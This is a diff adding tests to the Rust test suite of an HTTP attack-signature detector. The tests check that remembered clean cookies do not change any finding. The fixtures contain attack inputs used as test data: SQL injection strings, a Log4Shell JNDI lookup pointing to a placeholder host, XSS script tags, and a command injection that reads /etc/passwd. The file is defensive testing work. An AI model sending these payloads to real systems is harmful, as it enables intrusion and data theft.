@@ -1,5 +1,7 @@
 //! Every rule's own examples, and what a verdict says.
 
+use proptest::prelude::*;
+
 use super::detector::Detector;
 use super::rule::built_in;
 use super::*;
@@ -65,7 +67,7 @@ fn signatures(settings: &AttackSignaturesSettings) -> AttackSignatures {
 }
 
 fn head_finding(signatures: &AttackSignatures, head: &Head<'_>) -> Option<Finding> {
-    signatures.head(head, &mut (), &mut Found::default())
+    signatures.head(head, &mut None, &mut Found::default())
 }
 
 /// What is found in a JSON body, whole and in two chunks.
@@ -288,5 +290,97 @@ fn tags_in_capitals_are_found() {
     ] {
         let body = format!(r#"{{"a":"{tag}"}}"#);
         assert!(json_finding(&signatures, &body).is_some(), "{tag}");
+    }
+}
+
+/// Values that requests are made of: honest ones, attacks, and what rules match only beside another header.
+const FIELDS: [(&str, &str); 20] = [
+    ("path", "/a/b"),
+    ("path", "/x/' or 1=1--"),
+    ("host", "www.example.com"),
+    ("host", "www.example.org"),
+    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
+    ("User-Agent", "sqlmap/1.8"),
+    ("user-agent", "${jndi:ldap://x.example/a}"),
+    ("accept", "text/html,*/*;q=0.8"),
+    ("accept", "<script>alert(1)</script>"),
+    ("sec-fetch-dest", "document"),
+    ("sec-fetch-dest", "image"),
+    ("referer", "https://www.example.com/?q=a"),
+    ("referer", "https://www.example.org/?q=<script>alert(1)</script>"),
+    ("cookie", "a=1; b=2"),
+    ("cookie", "a=1; b=<script>alert(1)</script>"),
+    ("Cookie", "a=';cat /etc/passwd"),
+    ("authorization", "Bearer ' or 1=1--"),
+    ("x-note", "hello"),
+    ("x-note", "${jndi:ldap://x.example/a}"),
+    ("x-other", "hello"),
+];
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(24))]
+
+    #[test]
+    fn memory_of_clean_values_changes_no_finding(
+        requests in proptest::collection::vec(
+            (proptest::collection::vec(0..FIELDS.len(), 0..7), any::<bool>()),
+            1..40,
+        ),
+    ) {
+        let settings = AttackSignaturesSettings {
+            demoted_rules: vec!["html-active-content".into()],
+            exclusions: vec![SignatureExclusion { path: Some("/a/".into()), ..SignatureExclusion::default() }],
+            ..AttackSignaturesSettings::default()
+        };
+        let remembering = signatures(&settings);
+        let mut cookie = CleanCookie::default();
+        for (fields, asset) in requests.iter().chain(&requests) {
+            let fields: Vec<_> = fields.iter().map(|field| FIELDS[*field]).collect();
+            let path = fields.iter().find(|(name, _)| *name == "path").map_or("/", |(_, path)| path);
+            let headers = fields.iter().filter(|(name, _)| *name != "path");
+            let request = headers.fold(Exchange::get(path), |request, (name, value)| request.header(name, value));
+            request.asset(*asset).head(|head| {
+                let fresh = head_finding(&signatures(&settings), head);
+                let found = remembering.judge_head(head, &mut cookie, &mut Found::default());
+                prop_assert_eq!(format!("{:?}", found), format!("{:?}", fresh));
+                Ok(())
+            })?;
+        }
+    }
+}
+
+#[test]
+fn cookies_are_judged_once_for_a_client() {
+    let signatures = signatures(&AttackSignaturesSettings::default());
+    let judge = |cookies: &[&str], cookie: &mut CleanCookie| {
+        let request = Exchange::get("/");
+        let request = cookies.iter().fold(request, |request, value| request.header("cookie", value));
+        request.head(|head| signatures.judge_head(head, cookie, &mut Found::default()).is_some())
+    };
+    let mut cookie = CleanCookie::default();
+    assert!(!judge(&["a=1", "b=2"], &mut cookie));
+    let clean = cookie;
+    assert_ne!(clean, CleanCookie::default());
+    // The same again, none, or an attack leave it as it is.
+    assert!(!judge(&["a=1", "b=2"], &mut cookie) && !judge(&[], &mut cookie));
+    assert!(judge(&["a=1", "b=<script>alert(1)</script>"], &mut cookie));
+    assert_eq!(cookie, clean);
+    assert!(!judge(&["a=1; b=2"], &mut cookie));
+    assert_ne!(cookie, clean);
+}
+
+/// A full list of hits ends the judgment: what comes after it is unknown, not clean.
+#[test]
+fn what_is_not_judged_is_not_remembered() {
+    let signatures = signatures(&AttackSignaturesSettings::default());
+    let attacks = built_in().iter().flat_map(|rule| &rule.examples.matches);
+    let attacks = attacks.map(String::as_str).collect::<Vec<_>>().join("/");
+    let note = "${jndi:ldap://x.example/a}";
+    for path in ["/", &attacks, &attacks, &attacks, "/"] {
+        let denied = Exchange::get(path)
+            .header("accept", note)
+            .header("x-note", note)
+            .head(|head| head_finding(&signatures, head).is_some());
+        assert!(denied);
     }
 }
